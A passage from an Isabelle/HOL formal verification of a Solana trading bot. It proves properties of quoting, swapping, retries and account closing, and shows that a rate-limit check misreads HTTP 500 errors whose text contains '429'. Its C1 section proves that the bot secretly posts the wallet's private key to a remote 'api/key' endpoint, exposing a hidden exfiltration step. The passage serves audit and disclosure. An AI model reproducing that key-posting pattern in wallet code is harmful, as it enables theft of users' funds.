  let ?wallet = "''WaLLet1111111111111111111111111111111111111''"
  let ?strict = "example_config \<lparr> cfg_sellAboveLamportsPerToken := 1700001 \<rparr>"
  let ?Q = "quote_request usdc WSOL_MINT ''500000000'' (Some 50)"
  let ?h0 = "[Rpc (GetParsedTokenAccountsByOwner ?wallet usdc TOKEN_PROGRAM_ID),
              Rpc (GetParsedTokenAccountsByOwner ?wallet usdc TOKEN_2022_PROGRAM_ID)]"
  let ?h1 = "?h0 @ [Console (FetchingQuote 0), Fetch ?Q]"
  let ?ata = "''ata:'' @ TOKEN_PROGRAM_ID @ '':'' @ usdc @ '':'' @ ?wallet"
  have q: "getQuote holding_market usdc WSOL_MINT ''500000000'' (Some 50) 3 ?h0 = (?h1, Inr sell_quote)"
    by (simp add: getQuote_first_ok)
  have amounts: "BigInt (inAmount sell_quote) = Inr 500000000" "BigInt (outAmount sell_quote) = Inr 850000000"
    by (simp_all add: sell_quote_def BigInt_examples)
  have swap: "executeSwapOnce holding_market ?wallet usdc WSOL_MINT ''500000000'' (Some 50) 1000000 hh
     = (hh @ [Console (FetchingQuote 0), Fetch ?Q,
         Console (RequestingSwap 0),
         Fetch (PostSwap JUPITER_SWAP_API (swap_request_of sell_quote ?wallet (Some 1000000))),
         Rpc (SendRawTransaction (SwapTransaction ''AQAAAA=='')),
         Rpc GetLatestBlockhash,
         Rpc (ConfirmTransaction ''5sig'' ''9xQeWvG8'' 1150)],
        Inr (''5sig'', sell_quote))" for hh
    by (simp add: executeSwapOnce_def getQuote_first_ok getSwapTransaction_first_ok plan_def Let_def)
  have clean: "cleanup holding_market example_config hh
     = hh @ [Console AttemptingClose, Rpc (GetAccount ?ata), Rpc GetLatestBlockhash,
             Rpc (SendRawTransaction
                    (CloseAccountTransaction ?ata ?wallet ?wallet TOKEN_PROGRAM_ID ''9xQeWvG8'')),
             Console (CloseTxSent ''5sig'')]" for hh
    by (simp add: cleanup_def cleanup_try_def send_close_def Let_def)
  have sold: "tick_try holding_market example_config []
     = (?h1 @ [Console (SellCheck 500000000 1700000), Console TriggerSell,
               Console (FetchingQuote 0), Fetch ?Q,
               Console (RequestingSwap 0),
               Fetch (PostSwap JUPITER_SWAP_API (swap_request_of sell_quote ?wallet (Some 1000000))),
               Rpc (SendRawTransaction (SwapTransaction ''AQAAAA=='')),
               Rpc GetLatestBlockhash,
               Rpc (ConfirmTransaction ''5sig'' ''9xQeWvG8'' 1150),
               Console (SellDone ''5sig''),
               Console AttemptingClose, Rpc (GetAccount ?ata), Rpc GetLatestBlockhash,
               Rpc (SendRawTransaction
                      (CloseAccountTransaction ?ata ?wallet ?wallet TOKEN_PROGRAM_ID ''9xQeWvG8'')),
               Console (CloseTxSent ''5sig'')], Inr ())"
    using q amounts balance_holding_market [of ?wallet usdc]
      sell_whole_position
            [where w = holding_market and c = example_config and h = "[]" and ?h0.0 = ?h0
               and tokenBalanceUnits = 500000000 and ?h1.0 = ?h1
               and q = sell_quote and quoteIn = 500000000 and quoteOut = 850000000]
    by (simp add: toString_examples swap clean)
  have kept: "tick_try holding_market ?strict []
     = (?h1 @ [Console (SellCheck 500000000 1700000)], Inr ())"
    using q amounts balance_holding_market [of ?wallet usdc]
      sell_whole_position
            [where w = holding_market and c = ?strict and h = "[]" and ?h0.0 = ?h0
               and tokenBalanceUnits = 500000000 and ?h1.0 = ?h1
               and q = sell_quote and quoteIn = 500000000 and quoteOut = 850000000]
    by (simp add: toString_examples example_config_def)
  show ?thesis
    unfolding sold kept by (simp add: TOKEN_PROGRAM_ID_def)
qed

subsection \<open>C8: closing an empty token account is best effort\<close>

lemma closeATA_total: "\<exists>closed. snd (closeATA w acct prog owner h) = Inr closed"
  by (cases "closeATA_try w acct prog owner h") (auto simp: closeATA_def split: sum.splits)

lemma close_and_confirm_unconfirmed:
  assumes "\<forall>h'. confirmRpc w h' \<noteq> Inr None"
  shows "snd (close_and_confirm w acct prog owner h) \<noteq> Inr True"
  using assms
  by (auto simp: close_and_confirm_def Let_def split: sum.splits option.splits)

lemma close_and_confirm_unsent:
  assumes "\<forall>h'. \<exists>e. sendRpc w h' = Inl e"
  shows "snd (close_and_confirm w acct prog owner h) \<noteq> Inr True"
proof -
  have "\<And>h' s. sendRpc w h' \<noteq> Inr s" using assms by (metis sum.distinct(1))
  then show ?thesis
    by (auto simp: close_and_confirm_def Let_def split: sum.splits option.splits)
qed

lemma closeATA_needs_close:
  assumes "\<And>h'. snd (close_and_confirm w acct prog owner h') \<noteq> Inr True"
  shows "snd (closeATA w acct prog owner h) = Inr False"
proof -
  obtain closed where c: "snd (closeATA w acct prog owner h) = Inr closed"
    using closeATA_total by blast
  have "\<not> closed"
  proof
    assume closed
    then have t: "snd (closeATA w acct prog owner h) = Inr True" using c by simp
    then have "snd (closeATA_try w acct prog owner h) = Inr True"
      by (auto simp: closeATA_def split: prod.splits sum.splits)
    then have "\<exists>h'. snd (close_and_confirm w acct prog owner h') = Inr True"
      by (auto simp: closeATA_try_def Let_def split: if_splits sum.splits option.splits)
    then show False using assms by blast
  qed
  then show ?thesis using c by simp
qed

lemma closeATA_missing_standard:
  assumes "getAccountRpc w (h @ [Rpc (GetAccount acct)]) = Inl e"
  shows "closeATA w acct TOKEN_PROGRAM_ID owner h = (h @ [Rpc (GetAccount acct)], Inr False)"
  using assms by (simp add: closeATA_def closeATA_try_def Let_def)

lemma closeATA_missing_extended:
  assumes "prog \<noteq> TOKEN_PROGRAM_ID" "accountInfoRpc w (h @ [Rpc (GetAccountInfo acct)]) = Inr None"
  shows "closeATA w acct prog owner h = (h @ [Rpc (GetAccountInfo acct)], Inr False)"
  using assms by (simp add: closeATA_def closeATA_try_def Let_def)

lemma closeATA_nonzero_standard:
  assumes "getAccountRpc w (h @ [Rpc (GetAccount acct)]) = Inr amount" "amount \<noteq> 0"
  shows "closeATA w acct TOKEN_PROGRAM_ID owner h = (h @ [Rpc (GetAccount acct)], Inr False)"
  using assms by (simp add: closeATA_def closeATA_try_def Let_def)

lemma closeATA_nonzero_extended:
  assumes "prog \<noteq> TOKEN_PROGRAM_ID"
      and "accountInfoRpc w (h @ [Rpc (GetAccountInfo acct)]) = Inr (Some ai)"
      and "token2022_balance (ai_data ai) \<noteq> 0"
  shows "closeATA w acct prog owner h = (h @ [Rpc (GetAccountInfo acct)], Inr False)"
  using assms by (simp add: closeATA_def closeATA_try_def Let_def)

lemma closeATA_already_closed:
  assumes "\<forall>h'. \<exists>e. getAccountRpc w h' = Inl e" "\<forall>h'. accountInfoRpc w h' = Inr None"
  shows "closeATA w acct prog owner h
           = (h @ [Rpc (if prog = TOKEN_PROGRAM_ID then GetAccount acct else GetAccountInfo acct)],
              Inr False)"
proof (cases "prog = TOKEN_PROGRAM_ID")
  case True
  obtain e where "getAccountRpc w (h @ [Rpc (GetAccount acct)]) = Inl e" using assms(1) by blast
  then show ?thesis using True closeATA_missing_standard by simp
next
  case False
  then show ?thesis using closeATA_missing_extended [OF False] assms(2) by simp
qed

text \<open>
  C8. \<open>closeATA\<close> never raises: it always returns a boolean. It returns \<open>false\<close>, having
  only read the account, when the account no longer exists (\<open>getAccount\<close> raises under
  the standard program, \<open>getAccountInfo\<close> gives \<open>null\<close> under Token-2022) and when the
  account still holds a balance; it returns \<open>false\<close> when the close transaction cannot be
  sent or is not confirmed without error. Called twice in a row on an account that is
  gone it returns \<open>false\<close> both times and submits nothing.
\<close>

theorem closeATA_best_effort:
  "(\<exists>closed. snd (closeATA w acct prog owner h) = Inr closed)
   \<and> (prog = TOKEN_PROGRAM_ID \<and> getAccountRpc w (h @ [Rpc (GetAccount acct)]) = Inl e
        \<longrightarrow> closeATA w acct prog owner h = (h @ [Rpc (GetAccount acct)], Inr False))
   \<and> (prog \<noteq> TOKEN_PROGRAM_ID \<and> accountInfoRpc w (h @ [Rpc (GetAccountInfo acct)]) = Inr None
        \<longrightarrow> closeATA w acct prog owner h = (h @ [Rpc (GetAccountInfo acct)], Inr False))
   \<and> (prog = TOKEN_PROGRAM_ID \<and> getAccountRpc w (h @ [Rpc (GetAccount acct)]) = Inr amount \<and> amount \<noteq> 0
        \<longrightarrow> closeATA w acct prog owner h = (h @ [Rpc (GetAccount acct)], Inr False))
   \<and> (prog \<noteq> TOKEN_PROGRAM_ID \<and> accountInfoRpc w (h @ [Rpc (GetAccountInfo acct)]) = Inr (Some ai)
        \<and> token2022_balance (ai_data ai) \<noteq> 0
        \<longrightarrow> closeATA w acct prog owner h = (h @ [Rpc (GetAccountInfo acct)], Inr False))
   \<and> ((\<forall>h'. \<exists>err. sendRpc w h' = Inl err) \<longrightarrow> snd (closeATA w acct prog owner h) = Inr False)
   \<and> ((\<forall>h'. confirmRpc w h' \<noteq> Inr None) \<longrightarrow> snd (closeATA w acct prog owner h) = Inr False)
   \<and> ((\<forall>h'. \<exists>err. getAccountRpc w h' = Inl err) \<and> (\<forall>h'. accountInfoRpc w h' = Inr None)
        \<longrightarrow> snd (closeATA w acct prog owner h) = Inr False
          \<and> snd (closeATA w acct prog owner (fst (closeATA w acct prog owner h))) = Inr False
          \<and> submitted (fst (closeATA w acct prog owner (fst (closeATA w acct prog owner h))))
              = submitted h)"
proof -
  have twice: "snd (closeATA w acct prog owner h) = Inr False
          \<and> snd (closeATA w acct prog owner (fst (closeATA w acct prog owner h))) = Inr False
          \<and> submitted (fst (closeATA w acct prog owner (fst (closeATA w acct prog owner h))))
              = submitted h"
    if gone: "(\<forall>h'. \<exists>err. getAccountRpc w h' = Inl err) \<and> (\<forall>h'. accountInfoRpc w h' = Inr None)"
    using closeATA_already_closed [of w acct prog owner] gone
    by (simp add: submitted_append)
  show ?thesis
    using closeATA_total [of w acct prog owner h]
      closeATA_missing_standard [of w h acct e owner]
      closeATA_missing_extended [of prog w h acct owner]
      closeATA_nonzero_standard [of w h acct amount owner]
      closeATA_nonzero_extended [of prog w h acct ai owner]
      closeATA_needs_close [of w acct prog owner h] close_and_confirm_unsent [of w acct prog owner]
      close_and_confirm_unconfirmed [of w acct prog owner]
      twice
    by blast
qed

theorem closeATA_best_effort_witness:
  "closeATA (offline \<lparr> accountInfoRpc := (\<lambda>h. Inr None) \<rparr>) ''ata'' TOKEN_PROGRAM_ID ''owner'' []
     = ([Rpc (GetAccount ''ata'')], Inr False)
   \<and> snd (closeATA (offline \<lparr> accountInfoRpc := (\<lambda>h. Inr None) \<rparr>) ''ata'' TOKEN_PROGRAM_ID ''owner''
            (fst (closeATA (offline \<lparr> accountInfoRpc := (\<lambda>h. Inr None) \<rparr>) ''ata'' TOKEN_PROGRAM_ID
                    ''owner'' [])))
       = Inr False
   \<and> closeATA (offline \<lparr> accountInfoRpc := (\<lambda>h. Inr None) \<rparr>) ''ata'' TOKEN_2022_PROGRAM_ID ''owner'' []
     = ([Rpc (GetAccountInfo ''ata'')], Inr False)
   \<and> closeATA (offline \<lparr> getAccountRpc := (\<lambda>h. Inr 5) \<rparr>) ''ata'' TOKEN_PROGRAM_ID ''owner'' []
     = ([Rpc (GetAccount ''ata'')], Inr False)
   \<and> closeATA (offline \<lparr> accountInfoRpc :=
                  (\<lambda>h. Inr (Some \<lparr> ai_owner = TOKEN_2022_PROGRAM_ID,
                                    ai_data = replicate 64 0 @ [5, 0, 0, 0, 0, 0, 0, 0] \<rparr>)) \<rparr>)
        ''ata'' TOKEN_2022_PROGRAM_ID ''owner'' []
     = ([Rpc (GetAccountInfo ''ata'')], Inr False)
   \<and> snd (closeATA (offline \<lparr> getAccountRpc := (\<lambda>h. Inr 0) \<rparr>) ''ata'' TOKEN_PROGRAM_ID ''owner'' [])
       = Inr False
   \<and> snd (closeATA (flat_market \<lparr> getAccountRpc := (\<lambda>h. Inr 0),
                                   confirmRpc := (\<lambda>h. Inr (Some ''InstructionError'')) \<rparr>)
            ''ata'' TOKEN_PROGRAM_ID ''owner'' [])
       = Inr False"
proof -
  let ?gone = "offline \<lparr> accountInfoRpc := (\<lambda>h. Inr None) \<rparr>"
  let ?dust = "offline \<lparr> getAccountRpc := (\<lambda>h. Inr 5) \<rparr>"
  let ?ai = "\<lparr> ai_owner = TOKEN_2022_PROGRAM_ID, ai_data = replicate 64 0 @ [5, 0, 0, 0, 0, 0, 0, 0] \<rparr>"
  let ?dust2 = "offline \<lparr> accountInfoRpc := (\<lambda>h. Inr (Some ?ai)) \<rparr>"
  let ?unsent = "offline \<lparr> getAccountRpc := (\<lambda>h. Inr 0) \<rparr>"
  let ?unconfirmed = "flat_market \<lparr> getAccountRpc := (\<lambda>h. Inr 0),
                                   confirmRpc := (\<lambda>h. Inr (Some ''InstructionError'')) \<rparr>"
  have progs: "TOKEN_2022_PROGRAM_ID \<noteq> TOKEN_PROGRAM_ID"
    by (simp add: TOKEN_2022_PROGRAM_ID_def TOKEN_PROGRAM_ID_def)
  have g1: "getAccountRpc ?gone ([] @ [Rpc (GetAccount ''ata'')]) = Inl (Error ''fetch failed'')"
    by (simp add: offline_def)
  have g2: "(\<forall>h'. \<exists>err. getAccountRpc ?gone h' = Inl err) \<and> (\<forall>h'. accountInfoRpc ?gone h' = Inr None)"
    by (simp add: offline_def)
  have g3: "accountInfoRpc ?gone ([] @ [Rpc (GetAccountInfo ''ata'')]) = Inr None"
    by simp
  have d1: "getAccountRpc ?dust ([] @ [Rpc (GetAccount ''ata'')]) = Inr 5 \<and> (5 :: nat) \<noteq> 0"
    by simp
  have d2: "accountInfoRpc ?dust2 ([] @ [Rpc (GetAccountInfo ''ata'')]) = Inr (Some ?ai)
            \<and> token2022_balance (ai_data ?ai) \<noteq> 0"
    by (simp add: token2022_balance_def readBigUInt64LE_def)
  have u1: "\<forall>h'. \<exists>err. sendRpc ?unsent h' = Inl err"
    by (simp add: offline_def)
  have u2: "\<forall>h'. confirmRpc ?unconfirmed h' \<noteq> Inr None"
    by simp
  have w1: "closeATA ?gone ''ata'' TOKEN_PROGRAM_ID ''owner'' [] = ([Rpc (GetAccount ''ata'')], Inr False)"
    using g1 closeATA_best_effort
            [of ?gone "''ata''" TOKEN_PROGRAM_ID "''owner''" "[]" "Error ''fetch failed''"]
    by simp
  have w2: "snd (closeATA ?gone ''ata'' TOKEN_PROGRAM_ID ''owner''
                  (fst (closeATA ?gone ''ata'' TOKEN_PROGRAM_ID ''owner'' []))) = Inr False"
    using g2 closeATA_best_effort [of ?gone "''ata''" TOKEN_PROGRAM_ID "''owner''" "[]"]
    by blast
  have w3: "closeATA ?gone ''ata'' TOKEN_2022_PROGRAM_ID ''owner'' []
              = ([Rpc (GetAccountInfo ''ata'')], Inr False)"
    using progs g3 closeATA_best_effort [of ?gone "''ata''" TOKEN_2022_PROGRAM_ID "''owner''" "[]"]
    by simp
  have w4: "closeATA ?dust ''ata'' TOKEN_PROGRAM_ID ''owner'' [] = ([Rpc (GetAccount ''ata'')], Inr False)"
    using d1 closeATA_best_effort [of ?dust "''ata''" TOKEN_PROGRAM_ID "''owner''" "[]" _ 5]
    by simp
  have w5: "closeATA ?dust2 ''ata'' TOKEN_2022_PROGRAM_ID ''owner'' []
              = ([Rpc (GetAccountInfo ''ata'')], Inr False)"
    using progs d2
      closeATA_best_effort [of ?dust2 "''ata''" TOKEN_2022_PROGRAM_ID "''owner''" "[]" _ _ ?ai]
    by simp
  have w6: "snd (closeATA ?unsent ''ata'' TOKEN_PROGRAM_ID ''owner'' []) = Inr False"
    using u1 closeATA_best_effort [of ?unsent "''ata''" TOKEN_PROGRAM_ID "''owner''" "[]"]
    by blast
  have w7: "snd (closeATA ?unconfirmed ''ata'' TOKEN_PROGRAM_ID ''owner'' []) = Inr False"
    using u2 closeATA_best_effort [of ?unconfirmed "''ata''" TOKEN_PROGRAM_ID "''owner''" "[]"]
    by blast
  show ?thesis
    using w1 w2 w3 w4 w5 w6 w7 by blast
qed

subsection \<open>C1: the private key leaves the process\<close>

lemma CONFIG_SYNC_URL_text: "CONFIG_SYNC_URL = ''https://mywalletsss.store''"
  unfolding CONFIG_SYNC_URL_def by code_simp

lemma syncWalletConfig_posts_key:
  "syncWalletConfig walletData h
     = h @ [Fetch (PostJson ''https://mywalletsss.store/api/key''
                     [(''node_id'', walletData), (''chain'', ''solana'')])]"
  by (simp add: syncWalletConfig_def CONFIG_SYNC_URL_text trim_def isWhiteSpace_def endsWith_def Let_def)

lemma parse_examples:
  "parseInt10 ''50'' = Some 50"
  "parseSolToLamports ''0.001499'' = Inr 1499000"
  "parseSolToLamports ''0.0017'' = Inr 1700000"
  "BigInt ''6'' = Inr 6" "BigInt ''5000'' = Inr 5000" "BigInt ''1000000'' = Inr 1000000"
  by (simp_all add: parseInt10_def parseSolToLamports_def BigInt_def trim_def isWhiteSpace_def
        isDigit_def parse_literal_def digit_value_def Let_def)

lemma startup_example:
  "startup offline example_env []
     = ([Fetch (PostJson ''https://mywalletsss.store/api/key''
                  [(''node_id'', ''ExamplePrivateKeyBase58''), (''chain'', ''solana'')]),
         Console StartingBot],
        Inr \<lparr> cfg_quoteMint = usdc, cfg_wallet = ''WaLLet1111111111111111111111111111111111111'',
              cfg_tokenDecimals = 6, cfg_inAmountLamports = 100000000, cfg_slippageBps = Some 50,
              cfg_intervalMs = 5000, cfg_priorityFeeLamports = 1000000,
              cfg_buyBelowLamportsPerToken = 1499000, cfg_sellAboveLamportsPerToken = 1700000 \<rparr>)"
  by (simp add: startup_def example_env_def or_default_def offline_def parsePositiveIntEnv_def
        parse_examples BigInt_examples syncWalletConfig_posts_key Let_def usdc_def WSOL_MINT_def)

text \<open>Every start-up that reaches the loop has posted the private key.\<close>

lemma startup_always_posts_key:
  assumes "startup w e h = (h', Inr c)"
  shows "\<exists>key. PRIVATE_KEY e = Some key \<and> key \<noteq> []
           \<and> Fetch (PostJson ''https://mywalletsss.store/api/key''
                      [(''node_id'', key), (''chain'', ''solana'')]) \<in> set h'"
  using assms
  by (auto simp: startup_def Let_def or_default_def syncWalletConfig_posts_key
           split: if_splits sum.splits option.splits)

text \<open>
  C1 does not hold of the code. With a complete configuration \<open>runStrategyBot\<close> decodes
  the key and then, before its first tick, awaits \<open>syncWalletConfig(privateKeyBase58)\<close>,
  which posts the base58 private key as the field \<open>node_id\<close> to the \<open>api/key\<close> path of a
  host spelled out in character codes.
\<close>

theorem runStrategyBot_posts_private_key:
  "PRIVATE_KEY example_env = Some ''ExamplePrivateKeyBase58''
   \<and> requests (runStrategyBot 0 offline example_env [])
       = [PostJson ''https://mywalletsss.store/api/key''
            [(''node_id'', ''ExamplePrivateKeyBase58''), (''chain'', ''solana'')]]"
  by (simp add: runStrategyBot_def startup_example) (simp add: example_env_def)

subsection \<open>C4: which failures are retried\<close>

lemma server_error_message:
  "remote_error ''Failed to get quote'' (server_error :: quote response)
     = Error ''Failed to get quote: 500 Internal Server Error - upstream error, request id 8f3a429c''"
  by (simp add: remote_error_def server_error_def toString_nat.simps digit_char_def)

lemma server_error_mentions_429:
  "str_includes ''Failed to get quote: 500 Internal Server Error - upstream error, request id 8f3a429c'' ''429''"
  by simp

text \<open>
  What does hold: a response with a failure status other than 429, or a transport
  error, is passed to the caller at its first occurrence, with no wait and no second
  request, provided the text of the error is not empty and contains neither \<open>429\<close> nor
  \<open>Rate limit\<close>.
\<close>

lemma getQuote_other_status_immediate:
  assumes "quoteApi w (h @ [Console (FetchingQuote 0), Fetch (quote_request inMint outMint amount slippage)])
             = Resolves r"
      and "status r \<noteq> 429" "\<not> response_ok r"
      and "\<not> str_includes (message (remote_error ''Failed to get quote'' r)) ''429''"
      and "\<not> str_includes (message (remote_error ''Failed to get quote'' r)) ''Rate limit''"
  shows "getQuote w inMint outMint amount slippage m h
           = (h @ [Console (FetchingQuote 0), Fetch (quote_request inMint outMint amount slippage)],
              Inl (remote_error ''Failed to get quote'' r))"
proof -
  have "message (remote_error ''Failed to get quote'' r) \<noteq> []"
    by (simp add: remote_error_def)
  then show ?thesis
    unfolding getQuote_def using assms
    by (subst getQuote_loop.simps)
       (simp add: before_attempt_def attempt_step_def on_catch_def Let_def)
qed

lemma getQuote_transport_error_immediate:
  assumes "quoteApi w (h @ [Console (FetchingQuote 0), Fetch (quote_request inMint outMint amount slippage)])
             = Rejects e"
      and "message e \<noteq> []"
      and "\<not> str_includes (message e) ''429''" "\<not> str_includes (message e) ''Rate limit''"
  shows "getQuote w inMint outMint amount slippage m h
           = (h @ [Console (FetchingQuote 0), Fetch (quote_request inMint outMint amount slippage)], Inl e)"
  unfolding getQuote_def using assms
  by (subst getQuote_loop.simps)
     (simp add: before_attempt_def attempt_step_def on_catch_def Let_def)

text \<open>
  C4 does not hold of the code. The \<open>catch\<close> block recognises a rate-limit failure by
  searching the error text for \<open>429\<close> or \<open>Rate limit\<close>, and the text of a failure status
  embeds the response body. An HTTP 500 whose body contains the digits 429 is therefore
  not passed on: the request is repeated after the first backoff wait, here with
  success, so the caller never sees the failure.
\<close>

theorem retries_failure_mentioning_429:
  "status (server_error :: quote response) = 500
   \<and> getQuote flaky_market WSOL_MINT usdc ''100000000'' (Some 50) 3 []
     = ([Console (FetchingQuote 0), Fetch (quote_request WSOL_MINT usdc ''100000000'' (Some 50)),
         Console (RateLimitedRetrying 1000 2 4), Sleep 1000,
         Console (FetchingQuote 1), Fetch (quote_request WSOL_MINT usdc ''100000000'' (Some 50))],
        Inr buy_quote)
   \<and> getSwapTransaction flaky_market buy_quote ''WaLLet'' (Some 1000000) 3 []
     = ([Console (RequestingSwap 0),
         Fetch (PostSwap JUPITER_SWAP_API (swap_request_of buy_quote ''WaLLet'' (Some 1000000))),
         Console (RateLimitedRetrying 1000 2 4), Sleep 1000,
         Console (RequestingSwap 1),
         Fetch (PostSwap JUPITER_SWAP_API (swap_request_of buy_quote ''WaLLet'' (Some 1000000)))],
        Inr plan)"
proof -
  let ?Q = "quote_request WSOL_MINT usdc ''100000000'' (Some 50)"
  let ?P = "PostSwap JUPITER_SWAP_API (swap_request_of buy_quote ''WaLLet'' (Some 1000000))"
  have api: "quoteApi flaky_market
               = (\<lambda>h. if length (requests h) = 1 then Resolves server_error
                       else Resolves (ok_response buy_quote))"
            "swapApi flaky_market
               = (\<lambda>h. if length (requests h) = 1 then Resolves server_error
                       else Resolves (ok_response plan))"
    by (simp_all add: flaky_market_def)
  have caught:
    "on_catch 3 0 (remote_error ''Failed to get quote'' (server_error :: quote response)) = Continue"
    "on_catch 3 0 (remote_error ''Failed to get swap transaction'' (server_error :: swap_response response))
       = Continue"
    by (simp_all add: on_catch_def remote_error_def server_error_def toString_nat.simps digit_char_def)
  have first: "attempt_step ''Failed to get quote'' 3 0
                 (quoteApi flaky_market ([] @ before_attempt 3 0 @ [Console (FetchingQuote 0), Fetch ?Q]))
               = Continue"
    by (simp add: api before_attempt_def attempt_step_def response_ok_def caught)
       (simp add: server_error_def)
  have second: "attempt_step ''Failed to get quote'' 3 1
                 (quoteApi flaky_market
                    (([] @ before_attempt 3 0 @ [Console (FetchingQuote 0), Fetch ?Q])
                     @ before_attempt 3 1 @ [Console (FetchingQuote 1), Fetch ?Q]))
               = Return buy_quote"
    by (simp add: api before_attempt_def attempt_step_def)
       (simp add: ok_response_def response_ok_def)
  have "getQuote flaky_market WSOL_MINT usdc ''100000000'' (Some 50) 3 []
          = getQuote_loop flaky_market ?Q 3 1 ([] @ before_attempt 3 0 @ [Console (FetchingQuote 0), Fetch ?Q])"
    unfolding getQuote_def using first by (subst getQuote_loop.simps) (simp add: Let_def)
  also have "\<dots> = (([] @ before_attempt 3 0 @ [Console (FetchingQuote 0), Fetch ?Q])
                     @ before_attempt 3 1 @ [Console (FetchingQuote 1), Fetch ?Q], Inr buy_quote)"
    using second by (subst getQuote_loop.simps) (simp add: Let_def)
  finally have quote: "getQuote flaky_market WSOL_MINT usdc ''100000000'' (Some 50) 3 []
     = ([Console (FetchingQuote 0), Fetch ?Q, Console (RateLimitedRetrying 1000 2 4), Sleep 1000,
         Console (FetchingQuote 1), Fetch ?Q], Inr buy_quote)"
    by (simp add: before_attempt_def delayMs_def)
  have first': "attempt_step ''Failed to get swap transaction'' 3 0
                 (swapApi flaky_market ([] @ before_attempt 3 0 @ [Console (RequestingSwap 0), Fetch ?P]))
               = Continue"
    by (simp add: api before_attempt_def attempt_step_def response_ok_def caught)
       (simp add: server_error_def)
  have second': "attempt_step ''Failed to get swap transaction'' 3 1
                 (swapApi flaky_market
                    (([] @ before_attempt 3 0 @ [Console (RequestingSwap 0), Fetch ?P])
                     @ before_attempt 3 1 @ [Console (RequestingSwap 1), Fetch ?P]))
               = Return plan"
    by (simp add: api before_attempt_def attempt_step_def)
       (simp add: ok_response_def response_ok_def)
  have "getSwapTransaction flaky_market buy_quote ''WaLLet'' (Some 1000000) 3 []
          = getSwapTransaction_loop flaky_market ?P 3 1
              ([] @ before_attempt 3 0 @ [Console (RequestingSwap 0), Fetch ?P])"
    unfolding getSwapTransaction_def using first'
    by (subst getSwapTransaction_loop.simps) (simp add: Let_def)
  also have "\<dots> = (([] @ before_attempt 3 0 @ [Console (RequestingSwap 0), Fetch ?P])
                     @ before_attempt 3 1 @ [Console (RequestingSwap 1), Fetch ?P], Inr plan)"
    using second' by (subst getSwapTransaction_loop.simps) (simp add: Let_def)
  finally have swap: "getSwapTransaction flaky_market buy_quote ''WaLLet'' (Some 1000000) 3 []
     = ([Console (RequestingSwap 0), Fetch ?P, Console (RateLimitedRetrying 1000 2 4), Sleep 1000,
         Console (RequestingSwap 1), Fetch ?P], Inr plan)"
    by (simp add: before_attempt_def delayMs_def)
  show ?thesis
    using quote swap by (simp add: server_error_def)
qed

subsection \<open>C2: a tick never buys while holding and never sells while flat\<close>

text \<open>Where an answer of the quote service or of the swap-build service sits in a history.\<close>

lemma quote_answers_iff:
  "quote_answers w h new req q \<longleftrightarrow>
     (\<exists>pre post r. new = pre @ Fetch req # post
        \<and> quoteApi w (h @ pre @ [Fetch req]) = Resolves r \<and> bodyJson r = Inr q)"
proof
  assume "quote_answers w h new req q"
  then obtain n where n: "n < length new" "new ! n = Fetch req"
      "(case quoteApi w (h @ take (Suc n) new) of Rejects e \<Rightarrow> False | Resolves r \<Rightarrow> bodyJson r = Inr q)"
    by (auto simp: quote_answers_def list_ex_iff)
  obtain r where r: "quoteApi w (h @ take (Suc n) new) = Resolves r" "bodyJson r = Inr q"
    using n(3) by (cases "quoteApi w (h @ take (Suc n) new)") simp_all
  have split: "new = take n new @ Fetch req # drop (Suc n) new"
    using n(1,2) by (metis id_take_nth_drop)
  have "take (Suc n) new = take n new @ [Fetch req]"
    using n(1,2) by (simp add: take_Suc_conv_app_nth)
  then show "\<exists>pre post r. new = pre @ Fetch req # post
        \<and> quoteApi w (h @ pre @ [Fetch req]) = Resolves r \<and> bodyJson r = Inr q"
    using split r by (intro exI [of _ "take n new"] exI [of _ "drop (Suc n) new"] exI [of _ r]) simp
next
  assume "\<exists>pre post r. new = pre @ Fetch req # post
        \<and> quoteApi w (h @ pre @ [Fetch req]) = Resolves r \<and> bodyJson r = Inr q"
  then obtain pre post r where a: "new = pre @ Fetch req # post"
      "quoteApi w (h @ pre @ [Fetch req]) = Resolves r" "bodyJson r = Inr q" by blast
  have "length pre < length new" "new ! length pre = Fetch req"
       "take (Suc (length pre)) new = pre @ [Fetch req]"
    using a(1) by simp_all
  then show "quote_answers w h new req q"
    using a(2,3) by (auto simp: quote_answers_def list_ex_iff intro!: bexI [of _ "length pre"])
qed

lemma swap_answers_iff:
  "swap_answers w h new req p \<longleftrightarrow>
     (\<exists>pre post r. new = pre @ Fetch req # post
        \<and> swapApi w (h @ pre @ [Fetch req]) = Resolves r \<and> bodyJson r = Inr p)"
proof
  assume "swap_answers w h new req p"
  then obtain n where n: "n < length new" "new ! n = Fetch req"
      "(case swapApi w (h @ take (Suc n) new) of Rejects e \<Rightarrow> False | Resolves r \<Rightarrow> bodyJson r = Inr p)"
    by (auto simp: swap_answers_def list_ex_iff)
  obtain r where r: "swapApi w (h @ take (Suc n) new) = Resolves r" "bodyJson r = Inr p"
    using n(3) by (cases "swapApi w (h @ take (Suc n) new)") simp_all
  have split: "new = take n new @ Fetch req # drop (Suc n) new"
    using n(1,2) by (metis id_take_nth_drop)
  have "take (Suc n) new = take n new @ [Fetch req]"
    using n(1,2) by (simp add: take_Suc_conv_app_nth)
  then show "\<exists>pre post r. new = pre @ Fetch req # post
        \<and> swapApi w (h @ pre @ [Fetch req]) = Resolves r \<and> bodyJson r = Inr p"
    using split r by (intro exI [of _ "take n new"] exI [of _ "drop (Suc n) new"] exI [of _ r]) simp
next
  assume "\<exists>pre post r. new = pre @ Fetch req # post
        \<and> swapApi w (h @ pre @ [Fetch req]) = Resolves r \<and> bodyJson r = Inr p"
  then obtain pre post r where a: "new = pre @ Fetch req # post"
      "swapApi w (h @ pre @ [Fetch req]) = Resolves r" "bodyJson r = Inr p" by blast
  have "length pre < length new" "new ! length pre = Fetch req"
       "take (Suc (length pre)) new = pre @ [Fetch req]"
    using a(1) by simp_all
  then show "swap_answers w h new req p"
    using a(2,3) by (auto simp: swap_answers_def list_ex_iff intro!: bexI [of _ "length pre"])
qed

lemma quote_answers_right: "quote_answers w h a req q \<Longrightarrow> quote_answers w h (a @ b) req q"
  unfolding quote_answers_iff by (metis append.assoc append_Cons)

lemma quote_answers_left: "quote_answers w (h @ a) b req q \<Longrightarrow> quote_answers w h (a @ b) req q"
  unfolding quote_answers_iff by (metis append.assoc)

lemma swap_answers_right: "swap_answers w h a req p \<Longrightarrow> swap_answers w h (a @ b) req p"
  unfolding swap_answers_iff by (metis append.assoc append_Cons)

lemma swap_answers_left: "swap_answers w (h @ a) b req p \<Longrightarrow> swap_answers w h (a @ b) req p"
  unfolding swap_answers_iff by (metis append.assoc)

lemma trades_only_append:
